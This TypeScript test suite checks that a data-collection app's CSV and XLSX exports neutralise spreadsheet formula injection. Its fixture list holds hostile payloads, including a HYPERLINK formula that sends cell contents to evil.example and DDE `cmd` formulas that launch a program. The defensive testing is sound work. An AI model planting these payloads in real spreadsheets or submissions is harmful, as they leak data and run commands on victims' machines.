import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import request from 'supertest';
import { binary } from './data-fixtures.js';
import { until } from './restservices-receiver.js';
import { startTestCollectApp, type TestCollectApp } from './test-app.js';
import { createTestUser, type TestUser } from './test-users.js';

/**
 * Formula prefixes in every spreadsheet output (docs/security.md, "Numbers, formulas and
 * names"). Answers, labels and choice values that a spreadsheet would run as formulas
 * (`=HYPERLINK(...)`, `@SUM(...)`, `+`, `-`, a leading tab or CR) go through every CSV route (form,
 * merged dataset, dataview, asynchronous export; headers, label rows and split choice columns)
 * and every XLSX route. Property: no CSV cell starts a formula (a `'` is in front) unless it is a
 * plain number, which stays a number (`-5` on an integer question); every hostile text arrives
 * with its `'`; `escape_formulas=false` gives the stored text back; XLSX text cells are typed
 * strings and the sheets hold no formula element.
 */

export const FORMULAS = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")', '=1+1', '+1+1', '-1+1', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1', '=cmd|\' /C calc\'!A0',
];
const HOSTILE_LABEL = '=HYPERLINK("http://evil.example","label")';

const FORM = {
  id_string: 'formulas',
  title: 'Formulas',
  fields: [
    { name: 'note', type: 'text', label: HOSTILE_LABEL },
    { name: 'age', type: 'integer', label: '@age' },
    { name: 'tags', type: 'select all that apply', label: '+tags' },
    { name: 'kids', type: 'repeat', label: '-kids', children: [{ name: 'kid', type: 'text', label: '=kid' }] },
  ],
};

/** A cell a spreadsheet would read as a formula: starts with a trigger and is no plain number. */
const runs = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !/^[-+]?(\d+(\.\d*)?|\.\d+)([eE][-+]?\d+)?$/.test(cell);

describe('security: formula prefixes in every spreadsheet output', () => {
  let sut: TestCollectApp;
  let owner: TestUser;
  let formId: number;
  let mergedId: number;
  let viewId: number;

  beforeAll(async () => {
    sut = await startTestCollectApp({}, { worker: true });
    owner = await createTestUser(sut.app);
    formId = (await request(sut.url).post('/api/v1/forms').set('Authorization', owner.token).send(FORM).expect(201)).body.formid;
    const second = (await request(sut.url).post('/api/v1/forms').set('Authorization', owner.token).send({ ...FORM, id_string: 'formulas2' }).expect(201)).body.formid;
    for (const [i, value] of FORMULAS.entries()) {
      await request(sut.url).post('/api/v1/submissions').set('Authorization', owner.token)
        .send({ id: 'formulas', submission: { note: value, age: i % 2 ? '-5' : '7', tags: [i % 2 ? '=1+2' : `@SUM(${i})`], kids: [{ kid: value }] } }).expect(201);
    }
    mergedId = (await request(sut.url).post('/api/v1/merged-datasets').set('Authorization', owner.token).send({ name: 'm', xforms: [formId, second] }).expect(201)).body.id;
    viewId = (await request(sut.url).post('/api/v1/dataviews').set('Authorization', owner.token).send({ name: 'v', xform: formId, columns: ['note', 'age', 'tags'], query: [] }).expect(201)).body.id;
  }, 120_000);
  afterAll(() => sut.close());

  const get = (path: string) => request(sut.url).get(path).set('Authorization', owner.token).buffer(true).parse(binary);
  const OPTIONS = 'split_select_multiples=true&include_labels=true';

  /** The CSV routes, each read with the split and label options (choice values become headers, labels a row). */
  const csvRoutes = (): Array<[string, () => Promise<Buffer>]> => [
    ['form CSV', async () => (await get(`/api/v1/data/${formId}.csv?${OPTIONS}`).expect(200)).body as Buffer],
    ['merged dataset CSV', async () => (await get(`/api/v1/merged-datasets/${mergedId}/data.csv?${OPTIONS}`).expect(200)).body as Buffer],
    ['dataview CSV', async () => (await get(`/api/v1/dataviews/${viewId}/data.csv?${OPTIONS}`).expect(200)).body as Buffer],
    ['asynchronous CSV export', async () => {
      const job = (await request(sut.url).post('/api/v1/export').set('Authorization', owner.token)
        .send({ xform: formId, format: 'csv', split_select_multiples: true, include_labels: true }).expect(202)).body as { id: string };
      const state = async () => (await request(sut.url).get(`/api/v1/export/${job.id}`).set('Authorization', owner.token).expect(200)).body as { status: string; download_url: string | null };
      await until('the export', async () => (await state()).status === 'done', 60_000);
      return (await get(new URL((await state()).download_url!).pathname).expect(200)).body as Buffer;
    }],
  ];

  it.each(['form CSV', 'merged dataset CSV', 'dataview CSV', 'asynchronous CSV export'].map((label) => ({ label })))(
    '$label: no cell, header or label starts a formula; hostile text has its quote; -5 stays a number',
    async ({ label }) => {
      const csv = parse(await csvRoutes().find(([l]) => l === label)![1](), { relaxColumnCount: true }) as string[][];
      const cells = csv.flat();
      expect(cells.filter(runs)).toEqual([]);
      // Each hostile answer made it, behind its quote (the merged dataset and dataview hold the notes too).
      for (const value of FORMULAS) expect(cells).toContain(`'${value}`);
      expect(csv[1]).toContain(`'${HOSTILE_LABEL}`);
      // Header built from a choice value: starts with the question's name; its label row holds the value alone.
      expect(csv[0]).toContain('tags/@SUM(0)');
      expect(csv[1]).toEqual(expect.arrayContaining(["'@SUM(0)", "'=1+2"]));
      if (label !== 'dataview CSV') expect(csv[1]).toEqual(expect.arrayContaining(["'@age", "'=kid"]));
      expect(cells).toContain('-5');
    },
    120_000,
  );

  it('escape_formulas=false writes the stored text as it is (the documented opt-out)', async () => {
    const csv = parse((await get(`/api/v1/data/${formId}.csv?${OPTIONS}&escape_formulas=false`).expect(200)).body as Buffer, { relaxColumnCount: true }) as string[][];
    const cells = csv.flat();
    for (const value of FORMULAS) expect(cells).toContain(value);
    expect(cells).toContain(HOSTILE_LABEL);
    await request(sut.url).get(`/api/v1/data/${formId}.csv?escape_formulas=maybe`).set('Authorization', owner.token).expect(400);
  });

  it.each([
    { label: 'form XLSX', path: () => `/api/v1/data/${formId}.xlsx?${OPTIONS}` },
    { label: 'merged dataset XLSX', path: () => `/api/v1/merged-datasets/${mergedId}/data.xlsx?${OPTIONS}` },
    { label: 'dataview XLSX', path: () => `/api/v1/dataviews/${viewId}/data.xlsx?${OPTIONS}` },
  ])('$label: hostile text is a typed string cell, no cell is a formula', async ({ path }) => {
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load((await get(path()).expect(200)).body as Buffer);
    const strings: string[] = [];
    wb.eachSheet((sheet) => sheet.eachRow((row) => row.eachCell((cell) => {
      expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
      expect(cell.formula).toBeFalsy();
      if (cell.type === ExcelJS.ValueType.String) strings.push(cell.value as string);
    })));
    // The hostile answers and labels are there as text, exactly as stored.
    expect(strings).toEqual(expect.arrayContaining([...FORMULAS.filter((v) => !/^[\t\r]/.test(v)), HOSTILE_LABEL]));
  });
});
